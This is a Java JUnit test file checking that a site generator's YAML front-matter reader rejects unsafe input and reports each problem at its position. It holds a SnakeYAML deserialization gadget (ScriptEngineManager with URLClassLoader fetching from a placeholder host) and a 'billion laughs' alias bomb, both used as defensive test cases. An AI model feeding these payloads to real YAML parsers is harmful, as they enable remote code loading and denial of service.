package org.peersite.model;

import static org.assertj.core.api.Assertions.assertThat;
import static org.peersite.model.Expect.error;
import static org.peersite.model.Expect.sorted;
import static org.peersite.model.Expect.warning;

import org.junit.jupiter.api.Test;
import org.peersite.diag.Diagnostics;
import org.peersite.source.FrontMatterSplitter;
import org.peersite.source.SourceFile;

/** The YAML reader's guards, seen through the front matter of a plain page ({@code content/about.md}). */
class YamlSafetyTest {

    private static final String PAGE = "content/about.md";

    private final Diagnostics problems = new Diagnostics();

    private PageMeta parse(String frontMatter) {
        SourceFile file = FrontMatterSplitter.split("about.md", PAGE, "---\n" + frontMatter + "---\nBody\n", problems);
        return MetaParser.parse(file, Kind.PAGE, problems);
    }

    // ------------------------------------------------------------------------------------------ tags

    @Test
    void aGlobalTagNamingAJavaClassIsRejectedAtItsPositionAndNothingIsLoaded() {
        PageMeta meta = parse("""
                title: About
                x: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://e.example/"]]]]
                """);

        assertThat(meta).isNull();
        assertThat(problems).singleElement()
                .satisfies(error(PAGE + ":3:4", "front-matter.tag",
                        "the YAML tag '!!javax.script.ScriptEngineManager' is not allowed"));
    }

    @Test
    void localAndNonPlainStandardTagsAreErrorsAndTheRestOfTheFileIsStillChecked() {
        PageMeta meta = parse("""
                title: !foo About
                summary: !!binary aGk=
                tags: !!set {a, b}
                slug: !<tag:example.com,2000:app> x
                draft: maybe
                """);

        assertThat(meta.title()).as("a plain page without a usable title is named by its file").isEqualTo("about");
        assertThat(problems.sorted()).satisfiesExactly(
                error(PAGE + ":2:8", "front-matter.tag", "the YAML tag '!foo' is not allowed"),
                error(PAGE + ":3:10", "front-matter.tag", "the YAML tag '!!binary' is not allowed"),
                error(PAGE + ":4:7", "front-matter.tag", "the YAML tag '!!set' is not allowed"),
                error(PAGE + ":5:7", "front-matter.tag", "the YAML tag '!<tag:example.com,2000:app>' is not allowed"),
                error(PAGE + ":6:8", "front-matter.type", "'draft' must be true or false"));
    }

    @Test
    void anExplicitStrTagIsAPlainTagAndMakesTextOfYes() {
        PageMeta meta = parse("title: !!str yes\n");

        assertThat(problems).isEmpty();
        assertThat(meta.title()).isEqualTo("yes");
    }

    @Test
    void mergeKeysAreRejected() {
        parse("title: About\nbase: &base {summary: One.}\n<<: *base\n");

        // 'base' is one of the page's own properties (a plain page keeps them for the theme, unchecked).
        assertThat(problems.sorted()).satisfiesExactly(
                error(PAGE + ":4:1", "front-matter.tag", "merge keys ('<<') are not supported"));
    }

    // ------------------------------------------------------------------------------------------ duplicates

    @Test
    void aDuplicateKeyIsAnErrorAtTheSecondOneNamingTheLineOfTheFirst() {
        PageMeta meta = parse("title: About\nsummary: One.\ntitle: Again\n");

        assertThat(meta.title()).isEqualTo("About");
        assertThat(problems).singleElement()
                .satisfies(error(PAGE + ":4:1", "front-matter.duplicate-key", "'title' is set twice"))
                .satisfies(d -> assertThat(d.hint()).isEqualTo("the first 'title' is on line 2; keep one of them"));
    }

    @Test
    void duplicateKeysInsideNestedMapsAreFoundToo() {
        Diagnostics out = new Diagnostics();
        String text = "---\ntitle: Leo\ndate: 2024-05-01\nsummary: Why.\ninterviewee:\n  name: Leo\n  role: author\n"
                + "  name: Leo B.\n---\n";
        SourceFile file = FrontMatterSplitter.split("interviews/leo.md", "content/interviews/leo.md", text, out);
        MetaParser.parse(file, Kind.INTERVIEW, out);

        assertThat(out).singleElement().satisfies(error("content/interviews/leo.md:8:3", "front-matter.duplicate-key",
                "'name' is set twice"));
    }

    // ------------------------------------------------------------------------------------------ limits

    @Test
    void aBillionLaughsAliasBombIsStoppedAtTheAliasOverTheLimit() {
        // b and c reuse a list 18 times; the third alias on line 6 (column 14) is the 21st.
        PageMeta meta = parse("""
                title: About
                a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
                b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
                c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
                d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
                e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
                f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
                g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]
                h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]
                i: &i [*h,*h,*h,*h,*h,*h,*h,*h,*h]
                """);

        assertThat(meta).isNull();
        assertThat(problems).singleElement()
                .satisfies(error(PAGE + ":6:14", "front-matter.limit",
                        "reuses lists or maps through aliases (*name) more than 20 times"));
    }

    @Test
    void aFewAliasesAndEvenACycleAreReadWithoutTrouble() {
        PageMeta meta = parse("title: &t About\nsummary: *t\nloop: &l [*l]\ntags: &x [a, *x]\n");

        assertThat(meta.summary()).isEqualTo("About");
        assertThat(problems.sorted()).satisfiesExactly(
                error(PAGE + ":5:7", "front-matter.type", "'tags[2]' must be text, not a list"));
    }

    @Test
    void deepNestingIsStoppedAtTheLevelOverTheLimit() {
        PageMeta meta = parse("title: About\nx: " + "[".repeat(30) + "]".repeat(30) + "\n");

        assertThat(meta).isNull();
        // The root map and 19 lists fill the 20 levels; the 20th "[" (column 23) is one too many.
        assertThat(problems).singleElement()
                .satisfies(error(PAGE + ":3:23", "front-matter.limit", "nested more than 20 levels deep"));
    }

    @Test
    void overlongYamlIsRefusedBeforeParsing() {
        PageMeta meta = parse("title: About\nsummary: \"" + "x".repeat(YamlReader.MAX_CODE_POINTS) + "\"\n");

        assertThat(meta).isNull();
        assertThat(problems).singleElement()
                .satisfies(error(PAGE + ":1:1", "front-matter.limit", "the limit is 262144"));
    }

    // ------------------------------------------------------------------------------------------ syntax

    @Test
    void brokenYamlIsOneDiagnosticAtTheProblemWithItsLineAndAHint() {
        PageMeta meta = parse("title: Peers: the first year\n");

        assertThat(meta).isNull();
        assertThat(problems).singleElement()
                .satisfies(error(PAGE + ":2:13", "front-matter.syntax",
                        "invalid YAML: mapping values are not allowed here"))
                .satisfies(d -> assertThat(d.sourceLine()).isEqualTo("title: Peers: the first year"))
                .satisfies(d -> assertThat(d.hint()).contains("put the value in quotes"));
    }

    @Test
    void aLineSeparatorInsideAQuotedValueDoesNotShiftLaterPositions() {
        // YAML 1.1 counts U+2028 as a line break; editors do not, and neither do our positions.
        parse("title: \"Peers\u2028and more\"\ndraft: maybe\n");

        assertThat(problems).singleElement().satisfies(error(PAGE + ":3:8", "front-matter.type", "'draft'"));
    }

    @Test
    void aControlCharacterIsOneErrorAtItsPlace() {
        parse("title: About\nsummary: b\u0000c\n");

        assertThat(problems).singleElement()
                .satisfies(error(PAGE + ":3:11", "front-matter.syntax", "a character that is not allowed: U+0000"));
    }

    @Test
    void tabIndentationAndUnclosedListsAreSyntaxErrorsWithTheirContext() {
        parse("title: About\ntags:\n\t- a\n");
        parse("title: About\ntags: [a, b\n");

        assertThat(problems).satisfiesExactly(
                error(PAGE + ":3:7", "front-matter.syntax", "this '[' is never closed"),
                error(PAGE + ":4:1", "front-matter.syntax", "(TAB)"));
        assertThat(problems.sorted().get(0).notes()).singleElement().hasToString(PAGE
                + ":4:1: the YAML parser noticed it here: expected ',' or ']', but got <stream end>");
        assertThat(problems.sorted().get(1).hint()).isEqualTo("indent with spaces; YAML does not allow tabs for indentation");
    }

    @Test
    void aTagWhoseEscapeDecodesToAControlCharacterIsADiagnosticNotAnException() {
        // Found by FrontMatterFuzzTest: SnakeYAML threw IllegalArgumentException from its Tag constructor.
        assertThat(parse("title: !U+%04 x\n")).isNull();
        assertThat(problems).singleElement().satisfies(d -> {
            assertThat(d.code()).isEqualTo("front-matter.syntax");
            assertThat(d.position().line()).isEqualTo(2);
            assertThat(d.message()).startsWith("the YAML could not be read: ");
        });
    }
}
